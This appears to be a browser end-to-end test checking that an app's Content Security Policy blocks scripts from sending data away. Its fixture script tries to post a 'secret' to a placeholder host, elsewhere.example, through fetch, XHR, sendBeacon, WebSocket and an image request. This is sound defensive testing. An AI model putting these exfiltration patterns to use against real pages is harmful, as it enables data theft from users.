import { describe, expect } from 'vitest'
import { journey } from '#journey/journey.ts'

const ELSEWHERE = 'https://elsewhere.example'

/** A script that tries every way to send something to another host, and tells what came of it. */
const SEND_AWAY = `(async () => {
  const breaches = []
  const note = ({ effectiveDirective, blockedURI }) => breaches.push(effectiveDirective + ' ' + blockedURI)
  document.addEventListener('securitypolicyviolation', note)
  const outcome = (begin) =>
    new Promise((resolve) => begin(() => resolve('sent'), () => resolve('refused')))
  const fetched = await outcome((sent, refused) =>
    fetch('${ELSEWHERE}/fetch', { method: 'POST', mode: 'no-cors', body: 'secret' }).then(sent, refused))
  const asked = await outcome((sent, refused) => {
    const request = new XMLHttpRequest()
    request.onload = sent
    request.onerror = refused
    request.open('POST', '${ELSEWHERE}/xhr')
    request.send('secret')
  })
  navigator.sendBeacon('${ELSEWHERE}/beacon', 'secret')
  const connected = await outcome((sent, refused) => {
    const socket = new WebSocket('wss://elsewhere.example/socket')
    socket.onopen = sent
    socket.onerror = refused
  })
  const picture = await outcome((sent, refused) => {
    const image = new Image()
    image.onload = sent
    image.onerror = refused
    image.src = '${ELSEWHERE}/picture.png?secret'
  })
  return { fetched, asked, connected, picture, breaches: breaches.toSorted() }
})()`

describe('a script in the app', () => {
  // proves 17.9
  journey('sends nothing to another host', async ({ visitor }) => {
    const { page } = await visitor({
      expectedFaults: [/^policy: /, /Content Security Policy|violates|Failed to load|WebSocket/],
    })
    const asked: string[] = []
    await page.route(`${ELSEWHERE}/**`, async (route) => {
      asked.push(route.request().url())
      await route.fulfill({ body: '' })
    })
    await page.goto('/')
    expect(await page.evaluate(SEND_AWAY)).toEqual({
      fetched: 'refused',
      asked: 'refused',
      connected: 'refused',
      picture: 'refused',
      breaches: [
        `connect-src ${ELSEWHERE}/beacon`,
        `connect-src ${ELSEWHERE}/fetch`,
        `connect-src ${ELSEWHERE}/xhr`,
        'connect-src wss://elsewhere.example/socket',
        `img-src ${ELSEWHERE}/picture.png?secret`,
      ],
    })
    expect(asked).toEqual([])
  })
})
